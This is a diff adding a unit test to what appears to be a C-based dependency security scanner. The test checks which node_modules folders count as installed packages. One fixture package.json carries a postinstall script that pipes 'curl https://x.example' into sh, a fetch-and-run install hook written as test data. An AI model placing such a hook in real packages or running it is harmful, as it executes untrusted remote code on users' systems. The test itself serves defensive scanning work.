@@ -259,6 +259,39 @@ static void test_manifest(void **state)
     deps_report_free(r);
 }
 
+/* Where installed packages are: node_modules/<name>, node_modules/@scope/<name>, nested under a
+ * package's own node_modules, and pnpm's virtual store. A node_modules folder deeper in a
+ * package (its test fixtures) holds files of that package, not installed packages. */
+static void test_install_layout(void **state)
+{
+    struct fixture x =
+        fx("package.json", ROOT_PKG("\"a\":\"1\""), "node_modules/a/package.json",
+           "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
+           "node_modules/a/node_modules/@s/b/package.json",
+           "{\"name\":\"@s/b\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{"
+           "\"postinstall\":\"node x.js\"}}",
+           "node_modules/.pnpm/c@1.0.0/node_modules/c/package.json",
+           "{\"name\":\"not-c\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
+           /* fixtures of a: no name, no version, a misnamed folder, an install script */
+           "node_modules/a/test/fixture/node_modules/foo/package.json", "{\"name\":\"bar\"}",
+           "node_modules/a/test/fixture/node_modules/@x/evil/package.json",
+           "{\"name\":\"@x/evil\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl "
+           "https://x.example | sh\"}}",
+           "node_modules/a/node_modules/@s/b/fixtures/node_modules/.pnpm/d@1.0.0/node_modules/d/"
+           "package.json",
+           "{\"version\":\"1.0.0\"}", NULL);
+    struct deps_report *r = scan_fx(&x);
+    (void)state;
+    assert_int_equal(count(r, "L2-POST-001", "@s/b"), 1);
+    assert_int_equal(count(r, "L2-MANI-001", "not-c"), 1);
+    assert_int_equal(count(r, "L2-LOCK-001", NULL), 1); /* no lockfile */
+    if (r->n_findings != 3) {
+        dump(r);
+        fail_msg("%zu findings, expected 3: fixtures are not installed packages", r->n_findings);
+    }
+    deps_report_free(r);
+}
+
 static void test_fork_and_provenance(void **state)
 {
     struct fixture x = fx(
@@ -960,6 +993,7 @@ int main(void)
         cmocka_unit_test(test_dep_confusion),
         cmocka_unit_test(test_typo),
         cmocka_unit_test(test_manifest),
+        cmocka_unit_test(test_install_layout),
         cmocka_unit_test(test_fork_and_provenance),
         cmocka_unit_test(test_maintainers),
         cmocka_unit_test(test_engines_and_license),
